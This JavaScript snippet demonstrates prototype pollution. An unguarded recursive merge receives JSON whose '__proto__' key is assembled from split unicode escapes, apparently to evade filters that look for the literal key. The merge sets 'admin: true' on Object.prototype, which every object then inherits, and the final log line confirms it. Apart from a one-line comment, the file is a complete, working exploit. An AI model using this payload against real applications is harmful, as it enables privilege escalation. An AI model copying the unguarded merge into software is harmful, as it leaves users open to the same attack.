// A JSON text is put together with escapes, and names the prototype when it is read.
const isObject = (v) => v !== null && typeof v === 'object';
function merge(target, source) {
  for (const key in source) {
    if (isObject(source[key])) {
      if (!isObject(target[key])) target[key] = {};
      merge(target[key], source[key]);
    } else target[key] = source[key];
  }
  return target;
}
const u = '\\u00';
const name = u + '5f' + u + '5fproto' + u + '5f' + u + '5f';
merge({}, JSON.parse(`{"${name}":{"admin":true}}`));
console.log({}.admin);
